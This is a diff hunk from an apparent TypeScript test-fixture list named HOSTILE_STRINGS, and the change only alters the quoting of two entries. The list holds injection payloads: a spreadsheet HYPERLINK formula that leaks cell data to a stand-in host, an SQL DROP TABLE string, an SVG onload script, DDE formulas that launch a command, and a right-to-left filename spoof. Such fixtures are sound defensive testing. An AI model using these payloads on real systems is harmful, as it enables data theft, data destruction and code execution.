@@ -231,8 +231,8 @@ export const HOSTILE_STRINGS: readonly string[] = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
   "'; DROP TABLE logs; --",
   '<svg/onload=alert(1)>',
-  '+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '-2+3',
   '\u202Egnp.exe',
 ];
